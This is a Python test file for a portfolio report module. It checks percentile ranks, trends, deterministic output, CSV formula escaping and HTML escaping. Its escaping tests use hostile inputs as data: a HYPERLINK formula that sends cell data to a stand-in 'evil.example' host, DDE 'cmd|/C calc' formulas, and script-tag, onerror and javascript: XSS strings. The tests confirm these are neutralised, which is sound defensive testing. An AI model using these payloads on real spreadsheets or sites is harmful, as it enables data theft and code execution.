"""The portfolio of many assessments: percentiles, ranks, trends, common findings, the CSV's
formula escaping, determinism, failures, and the HTML's escaping (gapcheck.portfolio)."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import itertools
import json
import os
import random
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gapcheck.assessment import PackRef, assess_file
from gapcheck.errors import RenderError
from gapcheck.pack import load_pack
from gapcheck.portfolio import (
    PIECE_PROJECTS,
    Failure,
    Portfolio,
    ProjectSummary,
    build_portfolio,
    csv_cell,
    iter_csv,
    iter_json,
    iter_portfolio_html,
    iter_rows_html,
    ordinal,
    percentile,
    percentile_ranks,
    portfolio_data,
    render_csv,
    render_json,
    render_portfolio_html,
    render_portfolio_html_part,
    summarize,
    write_portfolio,
)

ROOT = Path(__file__).parent.parent
PACK = PackRef("test-pack", "1.2.3", "ab" * 32)
AREAS = {"alpha": "Alpha area", "beta": "Beta area"}
SEVERITIES = ("critical", "high", "medium", "low")
TITLES = {"f-one": "Finding one", "f-two": "Finding two", "f-three": "Finding three"}


def summary(
    project_id: str,
    *,
    on: dt.date = dt.date(2026, 1, 10),
    confidence: str = "amber",
    overall: int | None = 60,
    alpha: int | None = 60,
    beta: int | None = 60,
    counts: dict[str, int] | None = None,
    findings: tuple[str, ...] = (),
    name: str | None = None,
    client: str = "Client Ltd",
    slug: str | None = None,
    reports: dict[str, str] | None = None,
) -> ProjectSummary:
    slug = slug or f"{project_id}-{on.isoformat()}"
    return ProjectSummary(
        project_id=project_id,
        project_name=name or project_id.title(),
        client=client,
        assessed_on=on,
        slug=slug,
        input=f"in/{slug}.yaml",
        confidence=confidence,
        overall=overall,
        scores={"alpha": alpha, "beta": beta},
        counts=counts or {"critical": 0, "high": 0, "medium": 0, "low": 0},
        findings=findings,
        reports={"html": f"{slug}.html"} if reports is None else reports,
    )


def build(summaries: list[ProjectSummary], failures: list[Failure] | None = None) -> Portfolio:
    return build_portfolio(summaries, failures or [], PACK, AREAS, TITLES)


# --- Percentiles and ranks ---------------------------------------------------------------------


def test_percentiles_interpolate_linearly() -> None:
    values = [10.0, 20.0, 30.0, 40.0, 50.0]
    assert [percentile(values, p) for p in (0, 10, 25, 50, 75, 90, 100)] == [
        10.0,
        14.0,
        20.0,
        30.0,
        40.0,
        46.0,
        50.0,
    ]
    assert percentile([7.0], 90) == 7.0
    assert percentile([1.0, 2.0], 50) == 1.5
    with pytest.raises(ValueError, match="no values"):
        percentile([], 50)


def test_percentile_ranks_count_ties_half_and_skip_missing_scores() -> None:
    assert percentile_ranks([10, 20, 20, 30, None]) == [0, 50, 50, 100, None]
    assert percentile_ranks([5, 5, 5]) == [50, 50, 50]
    assert percentile_ranks([42]) == [50]
    assert percentile_ranks([None, None]) == [None, None]
    assert percentile_ranks([40, 10, 30, 20, 50]) == [75, 0, 50, 25, 100]


def test_area_percentiles_and_each_projects_rank() -> None:
    portfolio = build(
        [
            summary("a", alpha=10, beta=None, overall=10),
            summary("b", alpha=20, beta=80, overall=20),
            summary("c", alpha=30, beta=None, overall=30),
            summary("d", alpha=40, beta=None, overall=40),
            summary("e", alpha=50, beta=None, overall=None),
        ]
    )
    stats = {item.id: item for item in portfolio.stats}
    assert list(stats) == ["alpha", "beta", "overall"]
    assert stats["alpha"].title == "Alpha area"
    assert stats["alpha"].scored == 5
    assert dict(stats["alpha"].percentiles) == {10: 14.0, 25: 20.0, 50: 30.0, 75: 40.0, 90: 46.0}
    assert stats["beta"].scored == 1
    assert set(stats["beta"].percentiles.values()) == {80.0}
    assert stats["overall"].scored == 4
    assert stats["overall"].percentiles[50] == 25.0
    ranks = {row.summary.project_id: dict(row.ranks) for row in portfolio.projects}
    assert ranks["a"] == {"alpha": 0, "beta": None, "overall": 0}
    assert ranks["c"] == {"alpha": 50, "beta": None, "overall": 67}
    assert ranks["e"] == {"alpha": 100, "beta": None, "overall": None}
    data = json.loads(render_json(portfolio))
    assert data["percentiles"][0] == {
        "id": "alpha",
        "title": "Alpha area",
        "scored": 5,
        "p10": 14.0,
        "p25": 20.0,
        "median": 30.0,
        "p75": 40.0,
        "p90": 46.0,
    }
    assert data["percentiles"][1]["p10"] == 80.0
    assert data["projects"][0]["percentile_ranks"] == {"alpha": 0, "beta": None, "overall": 0}


def test_no_scores_at_all_gives_empty_percentiles() -> None:
    portfolio = build([summary("a", alpha=None, beta=None, overall=None)])
    assert all(value is None for stats in portfolio.stats for value in stats.percentiles.values())
    assert "n/a" in render_portfolio_html(portfolio)


def test_ordinals() -> None:
    assert [ordinal(n) for n in (0, 1, 2, 3, 4, 11, 12, 13, 21, 22, 62, 100, 101, 111)] == [
        "0th",
        "1st",
        "2nd",
        "3rd",
        "4th",
        "11th",
        "12th",
        "13th",
        "21st",
        "22nd",
        "62nd",
        "100th",
        "101st",
        "111th",
    ]


# --- Trends ------------------------------------------------------------------------------------


def test_latest_assessment_with_its_trend_since_the_previous_one() -> None:
    history = [
        summary(
            "acme",
            on=dt.date(2026, 1, 5),
            confidence="red",
            overall=30,
            alpha=20,
            beta=40,
            findings=("f-one", "f-two"),
        ),
        summary(
            "acme",
            on=dt.date(2026, 3, 1),
            confidence="amber",
            overall=55,
            alpha=50,
            beta=None,
            findings=("f-one",),
        ),
        summary(
            "acme",
            on=dt.date(2026, 6, 1),
            confidence="amber-green",
            overall=62,
            alpha=58,
            beta=66,
            findings=("f-three",),
        ),
        summary("zeta", on=dt.date(2026, 2, 1), findings=("f-one",)),
    ]
    for order in (history, list(reversed(history))):
        portfolio = build(order)
        assert [row.summary.project_id for row in portfolio.projects] == ["acme", "zeta"]
        assert portfolio.assessments == 4
        acme, zeta = portfolio.projects
        assert acme.summary.assessed_on == dt.date(2026, 6, 1)
        assert acme.assessments == 3
        trend = acme.trend
        assert trend is not None
        assert trend.previous_on == dt.date(2026, 3, 1)
        assert trend.previous_confidence == "amber"
        assert trend.confidence_steps == 1
        assert trend.overall_delta == 7
        assert dict(trend.deltas) == {"alpha": 8, "beta": None}
        assert trend.text == "amber -> amber-green, +7 overall"
        assert zeta.trend is None
        assert zeta.assessments == 1
        # Older assessments count in the trend only: not in findings, ranks or percentiles.
        assert [(stat.id, stat.projects) for stat in portfolio.findings] == [
            ("f-one", 1),
            ("f-three", 1),
        ]
        assert {stats.id: stats.scored for stats in portfolio.stats}["alpha"] == 2
    data = json.loads(render_json(portfolio))
    assert data["projects"][0]["trend"] == {
        "previous_assessed_on": "2026-03-01",
        "previous_confidence": "amber",
        "confidence_steps": 1,
        "overall_delta": 7,
        "score_deltas": {"alpha": 8, "beta": None},
        "text": "amber -> amber-green, +7 overall",
    }
    html = render_portfolio_html(portfolio)
    assert "Amber \u2192 Amber/Green, +7 overall" in html
    assert "since 2026-03-01; Alpha area +8" in html
    assert "3 assessments" in html


def test_trend_text_for_a_worse_or_unchanged_rating() -> None:
    worse = build(
        [
            summary("p", on=dt.date(2026, 1, 1), confidence="green", overall=90),
            summary("p", on=dt.date(2026, 2, 1), confidence="amber-red", overall=61),
        ]
    ).projects[0]
    assert worse.trend is not None
    assert worse.trend.text == "green -> amber-red, -29 overall"
    assert worse.trend.confidence_steps == -3
    same = build(
        [
            summary("p", on=dt.date(2026, 1, 1), overall=None),
            summary("p", on=dt.date(2026, 2, 1), overall=None),
        ]
    ).projects[0]
    assert same.trend is not None
    assert same.trend.text == "amber, unchanged"
    assert same.trend.overall_delta is None


def test_two_assessments_on_the_same_date_pick_the_same_latest_in_any_order() -> None:
    first = summary("p", slug="p-a", overall=50)
    second = summary("p", slug="p-b", overall=70)
    assert build([first, second]).projects[0].summary.slug == "p-b"
    assert build([second, first]).projects[0].summary.slug == "p-b"


# --- Most common findings ----------------------------------------------------------------------


def test_most_common_findings_count_projects_with_share_and_title() -> None:
    portfolio = build(
        [
            summary("a", findings=("f-one", "f-two")),
            summary("b", findings=("f-two", "f-two")),  # counted once per project
            summary("c", findings=("f-two", "unknown-rule")),
            summary("d"),
        ]
    )
    stats = [(s.id, s.title, s.projects, s.share) for s in portfolio.findings]
    assert stats == [
        ("f-two", "Finding two", 3, 0.75),
        ("f-one", "Finding one", 1, 0.25),
        ("unknown-rule", "unknown-rule", 1, 0.25),
    ]
    data = json.loads(render_json(portfolio))
    assert data["common_findings"][0] == {
        "id": "f-two",
        "title": "Finding two",
        "projects": 3,
        "share": 0.75,
    }
    html = render_portfolio_html(portfolio)
    assert '<tr id="finding-f-two">' in html
    assert "Finding two<code" in html
    assert "75%" in html


# --- CSV ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_cannot_start_a_formula(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_csv_cells_that_are_safe_stay_as_they_are() -> None:
    assert csv_cell("Acme = good") == "Acme = good"
    assert csv_cell(12) == "12"
    assert csv_cell(None) == ""
    assert csv_cell("'quoted") == "'quoted"


def test_csv_neutralises_a_hostile_project_name_and_client() -> None:
    hostile = summary(
        "evil",
        name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        client="@SUM(1+1)*cmd|' /C calc'!A0",
        reports={"html": "-evil.html"},
    )
    hostile = ProjectSummary(
        **{
            **{field: getattr(hostile, field) for field in ProjectSummary.__slots__},
            "input": "+in/evil.yaml",
            "project_id": "\tevil",
        }
    )
    previous = summary("\tevil", on=dt.date(2025, 1, 1), overall=70)
    text = render_csv(build([previous, hostile])).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 1
    row = rows[0]
    assert row["project_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert row["client"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["project_id"] == "'\tevil"
    assert row["input"] == "'+in/evil.yaml"
    assert row["report_html"] == "'-evil.html"
    assert row["overall_delta"] == "'-10"
    assert row["trend"] == "amber, unchanged, -10 overall"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_has_one_row_per_latest_project_with_the_key_figures() -> None:
    portfolio = build(
        [
            summary("b", counts={"critical": 1, "high": 2, "medium": 0, "low": 3}),
            summary("a", on=dt.date(2025, 1, 1), overall=40),
            summary("a", on=dt.date(2026, 2, 2), overall=50, alpha=None, findings=("f-one",)),
        ]
    )
    rows = list(csv.reader(io.StringIO(render_csv(portfolio).decode(), newline="")))
    header = rows[0]
    assert header[:7] == [
        "project_id",
        "project_name",
        "client",
        "assessed_on",
        "confidence",
        "overall",
        "overall_percentile_rank",
    ]
    assert header[-2:] == ["input", "report_html"]
    table = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert [row["project_id"] for row in table] == ["a", "b"]
    assert table[0]["assessed_on"] == "2026-02-02"
    assert table[0]["alpha"] == ""
    assert table[0]["findings"] == "f-one"
    assert table[0]["assessments"] == "2"
    assert table[0]["overall_delta"] == "10"
    assert table[0]["trend"] == "amber, unchanged, +10 overall"
    assert table[0]["previous_assessed_on"] == "2025-01-01"
    assert [table[1][s] for s in ("critical", "high", "medium", "low")] == ["1", "2", "0", "3"]
    assert table[1]["previous_confidence"] == ""


# --- Determinism, failures, writing ------------------------------------------------------------


def many() -> list[ProjectSummary]:
    rng = random.Random(7)
    items = []
    for index in range(40):
        for visit in range(rng.randint(1, 3)):
            items.append(
                summary(
                    f"p{index:02d}",
                    on=dt.date(2026, 1 + visit, 1 + index % 28),
                    confidence=rng.choice(["green", "amber-green", "amber", "amber-red", "red"]),
                    overall=rng.randint(0, 100),
                    alpha=rng.choice([None, rng.randint(0, 100)]),
                    beta=rng.randint(0, 100),
                    findings=tuple(rng.sample(sorted(TITLES), rng.randint(0, 3))),
                )
            )
    return items


def test_the_same_inputs_give_byte_identical_json_and_csv(tmp_path: Path) -> None:
    items = many()
    failures = [Failure("z.yaml", "z.yaml, line 2: bad"), Failure("a.yaml", "a.yaml: unreadable")]
    first = build(items, failures)
    shuffled = items[:]
    random.Random(1).shuffle(shuffled)
    second = build(shuffled, list(reversed(failures)))
    assert render_json(first) == render_json(second)
    assert render_csv(first) == render_csv(second)
    assert render_portfolio_html(first) == render_portfolio_html(second)
    one, two = tmp_path / "one", tmp_path / "two"
    one.mkdir()
    two.mkdir()
    written = write_portfolio(one, first)
    assert [path.name for path in written] == ["portfolio.json", "portfolio.csv", "portfolio.html"]
    write_portfolio(two, second)
    for name in ("portfolio.json", "portfolio.csv", "portfolio.html"):
        assert (one / name).read_bytes() == (two / name).read_bytes(), name
    assert sorted(path.name for path in one.iterdir()) == [
        "portfolio.csv",
        "portfolio.html",
        "portfolio.json",
    ]
    # No timestamp: today's date appears nowhere (all the test dates are in 2025-2026 Jan-Apr).
    today = dt.date.today().isoformat()
    assert today not in (one / "portfolio.json").read_text()
    assert today not in (one / "portfolio.csv").read_text()
    assert "Generated" not in (one / "portfolio.html").read_text()


def test_generation_time_only_in_the_html_and_only_when_given(tmp_path: Path) -> None:
    portfolio = build([summary("a")])
    write_portfolio(
        tmp_path, portfolio, generated_at=dt.datetime(2026, 12, 1, 9, 30, tzinfo=dt.timezone.utc)
    )
    assert (
        "<dt>Generated</dt><dd>2026-12-01 09:30 UTC</dd>"
        in (tmp_path / "portfolio.html").read_text()
    )
    assert (tmp_path / "portfolio.json").read_bytes() == render_json(portfolio)
    assert "2026-12-01" not in (tmp_path / "portfolio.csv").read_text()


def test_failed_inputs_are_listed_in_order_and_escaped() -> None:
    failures = [
        Failure("b/<bad>.yaml", "b/<bad>.yaml, line 4, field project.id: is required"),
        Failure("a.yaml", "worker process crashed (exit code -9)"),
    ]
    portfolio = build([summary("a")], failures)
    assert [failure.input for failure in portfolio.failures] == ["a.yaml", "b/<bad>.yaml"]
    data = json.loads(render_json(portfolio))
    assert data["failures"] == [
        {"input": "a.yaml", "reason": "worker process crashed (exit code -9)"},
        {"input": "b/<bad>.yaml", "reason": "b/<bad>.yaml, line 4, field project.id: is required"},
    ]
    assert data["totals"]["failed_inputs"] == 2
    html = render_portfolio_html(portfolio)
    assert "<td>b/&lt;bad&gt;.yaml</td>" in html
    assert "<td>a.yaml</td><td>worker process crashed (exit code -9)</td>" in html
    assert "Every input was assessed." not in html
    assert "Every input was assessed." in render_portfolio_html(build([summary("a")]))


def test_html_escapes_client_text_and_quotes_report_links() -> None:
    portfolio = build(
        [
            summary(
                "x",
                name="<script>alert('name')</script> {{ 7*7 }}",
                client="<b>Bold</b> & Co",
                reports={"html": "a b#c.html", "pdf": "javascript:alert(1).pdf"},
            )
        ]
    )
    html = render_portfolio_html(portfolio)
    assert "<script>alert" not in html
    assert "&lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt; {{ 7*7 }}" in html
    assert "&lt;b&gt;Bold&lt;/b&gt; &amp; Co" in html
    assert html.count("<script>") == 1  # the sorting script, nothing else
    assert 'href="a%20b%23c.html"' in html
    assert 'href="javascript%3Aalert%281%29.pdf"' in html
    assert "http://" not in html
    assert "https://" not in html


@pytest.mark.parametrize("with_failures", [False, True])
def test_the_frame_and_both_tables_rows_are_the_page(with_failures: bool) -> None:
    items = [
        *many(),
        # Client text that looks like a placeholder or a block cannot be mistaken for it.
        summary("zz", name="<project_rows 1>", client="{% block project_rows %}"),
        summary("zy", name="<heatmap_rows 1>", client="{% block heatmap_rows %}"),
    ]
    failures = [Failure("bad.yaml", "<project_rows>")] if with_failures else []
    portfolio = build(items, failures)
    generated = dt.datetime(2026, 3, 1, 12, 30, tzinfo=dt.timezone.utc)
    page = render_portfolio_html(portfolio, generated_at=generated)
    before, between, after = render_portfolio_html_part(portfolio, "frame", generated_at=generated)
    (rows,) = render_portfolio_html_part(portfolio, "project_rows", generated_at=generated)
    (heatmap,) = render_portfolio_html_part(portfolio, "heatmap_rows", generated_at=generated)
    assert before + rows + between + heatmap + after == page
    assert rows.count("<tr data-project=") == len(portfolio.projects)
    assert heatmap.count("<tr data-project=") == len(portfolio.projects)
    assert (before + between + after).count("<tr data-project=") == 0
    assert "&lt;project_rows 1&gt;" in rows
    assert "&lt;heatmap_rows 1&gt;" in heatmap
    # The rows of consecutive slices of the projects, together, are the rows.
    count = len(portfolio.projects)
    for cuts in ([0, count // 3, count], [0, 1, count - 1, count], [0, 0, count]):
        pieces = [
            render_portfolio_html_part(
                portfolio, "project_rows", generated_at=generated, rows=slice(first, end)
            )[0]
            for first, end in itertools.pairwise(cuts)
        ]
        assert "".join(pieces) == rows
        assert [piece.count("<tr data-project=") for piece in pieces] == [
            end - first for first, end in itertools.pairwise(cuts)
        ]
        written = [
            b"".join(iter_rows_html(portfolio, "project_rows", slice(first, end)))
            for first, end in itertools.pairwise(cuts)
        ]
        assert b"".join(written) == rows.encode("utf-8")


def pieces_portfolio(count: int) -> Portfolio:
    """``count`` projects, with text that JSON, CSV and HTML each escape, and a trend."""
    items = [
        summary(
            f"p{index:05d}",
            name=f'Project "{index}", <b>\n',
            client="=cmd|' /C calc'!A0" if index % 7 == 0 else "Client, Ltd",
            overall=index % 101,
            alpha=None if index % 5 == 0 else index % 97,
            findings=("f-one",) if index % 3 else (),
        )
        for index in range(count)
    ]
    if count:
        items.append(summary("p00000", on=dt.date(2026, 2, 1), overall=99))
    return build(items, [Failure("bad.yaml", "bad")])


@pytest.mark.parametrize(
    "count", [0, 1, PIECE_PROJECTS - 1, PIECE_PROJECTS, PIECE_PROJECTS + 1, 2 * PIECE_PROJECTS + 3]
)
def test_files_written_in_pieces_are_the_files_rendered_whole(count: int, tmp_path: Path) -> None:
    portfolio = pieces_portfolio(count)
    whole_json = orjson.dumps(
        portfolio_data(portfolio), option=orjson.OPT_INDENT_2 | orjson.OPT_APPEND_NEWLINE
    )
    pieces = list(iter_json(portfolio))
    assert b"".join(pieces) == whole_json
    assert len(pieces) == (1 if not count else 2 + -(-count // PIECE_PROJECTS))
    csv_pieces = list(iter_csv(portfolio))
    assert b"".join(csv_pieces) == csv_writer_reference(portfolio)
    assert len(csv_pieces) == max(1, -(-count // PIECE_PROJECTS))
    html_pieces = list(iter_portfolio_html(portfolio))
    assert b"".join(html_pieces) == render_portfolio_html(portfolio).encode("utf-8")
    # The frame's three texts, and each table's rows in pieces.
    assert len(html_pieces) == 3 + 2 * -(-count // PIECE_PROJECTS)
    assert max(map(len, html_pieces[1:-1]), default=0) < 2_000_000  # no piece holds the whole
    write_portfolio(tmp_path, portfolio)
    assert (tmp_path / "portfolio.json").read_bytes() == whole_json
    assert (tmp_path / "portfolio.html").read_bytes() == b"".join(html_pieces)


def test_summarize_keeps_what_the_portfolio_needs() -> None:
    result = assess_file(ROOT / "samples" / "marketing-campaign.yaml")
    item = summarize(result, "trail-ready", "samples/marketing-campaign.yaml", {"json": "t.json"})
    assert item.project_id == result.project.id
    assert item.project_name == result.project.name
    assert item.client == result.project.client
    assert item.assessed_on == result.assessed_on
    assert item.slug == "trail-ready"
    assert item.input == "samples/marketing-campaign.yaml"
    assert item.confidence == result.confidence
    assert item.overall == result.overall
    assert dict(item.scores) == result.scores
    assert dict(item.counts) == result.counts
    assert item.findings == tuple(finding.id for finding in result.findings)
    assert dict(item.reports) == {"json": "t.json"}
    pack = load_pack()
    portfolio = build_portfolio(
        [item],
        [],
        result.pack,
        pack.area_titles,
        {loaded.rule.id: loaded.rule.title for loaded in pack.rules},
    )
    assert [title for _, title in portfolio.areas] == list(pack.area_titles.values())
    assert portfolio.findings[0].title == pack.rule(portfolio.findings[0].id).rule.title


def test_nothing_is_written_when_the_page_cannot_be_rendered(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import gapcheck.portfolio as module

    real_part = module.render_portfolio_html_part

    def broken(portfolio: Any, part: str, **kwargs: Any) -> tuple[str, ...]:
        # The page is written in pieces: this one fails once the JSON, the CSV and part of the
        # page are in their temporary files.
        if part == "heatmap_rows":
            raise RenderError("template portfolio.html: broken")
        return real_part(portfolio, part, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(module, "render_portfolio_html_part", broken)
    with pytest.raises(RenderError, match="broken"):
        write_portfolio(tmp_path, build([summary("a")]))
    assert list(tmp_path.iterdir()) == []


def test_a_large_portfolio_lists_every_project_once_per_table() -> None:
    items = [
        summary(f"p{index:04d}", overall=index % 101, alpha=index % 97, beta=None)
        for index in range(2000)
    ]
    html = render_portfolio_html(build(items))
    assert html.count('<tr data-project="p') == 4000
    assert html.count('<td class="score heat-none" data-sort="">n/a</td>') == 2000
    assert '<tr data-project="p1999">' in html


def test_a_portfolio_where_every_input_failed(tmp_path: Path) -> None:
    portfolio = build([], [Failure("only.yaml", "only.yaml: not an answers file")])
    write_portfolio(tmp_path, portfolio)
    data = json.loads((tmp_path / "portfolio.json").read_text())
    assert data["projects"] == []
    assert data["common_findings"] == []
    assert data["totals"]["failed_inputs"] == 1
    assert all(item["median"] is None for item in data["percentiles"])
    rows = list(csv.reader(io.StringIO((tmp_path / "portfolio.csv").read_text(), newline="")))
    assert len(rows) == 1  # the header
    html = (tmp_path / "portfolio.html").read_text()
    assert "Portfolio of 0 projects" in html
    assert "<td>only.yaml</td><td>only.yaml: not an answers file</td>" in html


def test_unescaped_cells_only_ever_hold_integers() -> None:
    # Counts and scores are integers by type; one that is not (a tampered cache, say) is refused
    # rather than written into the page unescaped.
    bad_count = ProjectSummary(
        **{
            **{field: getattr(summary("a"), field) for field in ProjectSummary.__slots__},
            "counts": {"high": "<img src=x onerror=alert(1)>"},
        }
    )
    with pytest.raises(ValueError, match="invalid literal for int"):
        render_portfolio_html(build([bad_count]))
    bad_score = summary("b", alpha="<b>bold</b>")  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        render_portfolio_html(build([bad_score]))


def test_csv_numbers_that_could_start_a_formula_are_neutralised_too() -> None:
    # Scores are 0..100, but a summary is plain data (read from the cache): the CSV must not
    # rely on it. Non-negative numbers are written as they are, negative ones with a "'".
    odd = summary("odd", overall=-5, alpha=-1, beta=0, counts={"critical": -2, "high": 3})
    rows = list(csv.DictReader(io.StringIO(render_csv(build([odd])).decode(), newline="")))
    row = rows[0]
    assert (row["overall"], row["alpha"], row["beta"]) == ("'-5", "'-1", "0")
    assert (row["critical"], row["high"], row["medium"]) == ("'-2", "3", "0")
    assert row["overall_percentile_rank"] == "50"


def test_csv_cells_are_csv_cell_of_every_value(tmp_path: Path) -> None:
    portfolio = build(many())
    text = render_csv(portfolio).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert len(rows) == len(portfolio.projects)
    for row, project in zip(rows, portfolio.projects, strict=True):
        values = [
            project.summary.overall,
            project.ranks["overall"],
            project.summary.scores["alpha"],
            project.summary.scores["beta"],
            project.ranks["alpha"],
            project.ranks["beta"],
        ]
        trend = project.trend
        assert row[5:11] == [csv_cell(value) for value in values]
        assert row[19] == csv_cell(trend.overall_delta if trend else None)


def csv_writer_reference(portfolio: Portfolio) -> bytes:
    """The CSV as csv.writer writes it, every cell but the header's through csv_cell: what
    render_csv writes, by another road."""
    areas = [area for area, _ in portfolio.areas]
    formats = portfolio.report_formats
    header = [
        *("project_id", "project_name", "client", "assessed_on", "confidence", "overall"),
        "overall_percentile_rank",
        *areas,
        *(f"{area}_percentile_rank" for area in areas),
        *SEVERITIES,
        *("findings", "assessments"),
        *("previous_assessed_on", "previous_confidence", "overall_delta", "trend", "input"),
        *(f"report_{fmt}" for fmt in formats),
    ]
    stream = io.StringIO(newline="")
    writer = csv.writer(stream, lineterminator="\r\n")
    writer.writerow(header)
    for row in portfolio.projects:
        project, trend = row.summary, row.trend
        values: list[object] = [
            project.project_id,
            project.project_name,
            project.client,
            project.assessed_on.isoformat(),
            project.confidence,
            project.overall,
            row.ranks.get("overall"),
            *(project.scores.get(area) for area in areas),
            *(row.ranks.get(area) for area in areas),
            *(
                project.counts.get(severity, 0)
                for severity in ("critical", "high", "medium", "low")
            ),
            " ".join(project.findings),
            row.assessments,
            trend.previous_on.isoformat() if trend else None,
            trend.previous_confidence if trend else None,
            trend.overall_delta if trend else None,
            trend.text if trend else None,
            project.input,
            *(project.reports.get(fmt) for fmt in formats),
        ]
        writer.writerow([csv_cell(value) for value in values])
    return stream.getvalue().encode("utf-8")


def test_csv_is_what_csv_writer_writes() -> None:
    portfolio = build(many())
    assert render_csv(portfolio) == csv_writer_reference(portfolio)
    odd = summary("odd", overall=-5, alpha=-1, beta=None, counts={"critical": -2, "high": 3})
    assert render_csv(build([odd])) == csv_writer_reference(build([odd]))


# Text a CSV must quote, neutralise or keep as it is: separators, quotes, line breaks of every
# kind, formula starts, spaces, control characters and non-ASCII.
_CSV_TEXT = st.lists(
    st.sampled_from([",", '"', "'", "\r", "\n", "\r\n", "=", "+", "-", "@", "\t", " ", "a"])
    | st.characters(codec="utf-8"),
    max_size=8,
).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    texts=st.lists(st.tuples(_CSV_TEXT, _CSV_TEXT, _CSV_TEXT, _CSV_TEXT), min_size=1, max_size=4),
    numbers=st.lists(st.one_of(st.none(), st.integers(-1000, 1000)), min_size=4, max_size=4),
    history=st.booleans(),
)
def test_csv_of_hostile_text_is_what_csv_writer_writes(
    texts: list[tuple[str, str, str, str]], numbers: list[int | None], history: bool
) -> None:
    overall, alpha, beta, critical = numbers
    projects = []
    for index, (name, client, link, confidence) in enumerate(texts):
        hostile = summary(
            f"p{index}",
            name=name or "x",
            client=client,
            confidence=confidence,
            overall=overall,
            alpha=alpha,
            beta=beta,
            counts={"critical": critical or 0, "high": 1},
            reports={"html": link, "json": f"{link}.json"},
        )
        projects.append(dataclasses.replace(hostile, input=f"{name}{client}"))
        if history:
            projects.append(summary(f"p{index}", on=dt.date(2025, 1, 1), confidence="red"))
    portfolio = build(projects)
    assert render_csv(portfolio) == csv_writer_reference(portfolio)


def test_write_portfolio_without_sync_writes_the_same_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    portfolio = build(many())
    synced: list[int] = []
    monkeypatch.setattr(os, "fsync", synced.append)
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    write_portfolio(tmp_path / "a", portfolio)
    assert len(synced) == 3
    write_portfolio(tmp_path / "b", portfolio, sync=False)
    assert len(synced) == 3
    for name in ("portfolio.json", "portfolio.csv", "portfolio.html"):
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes()
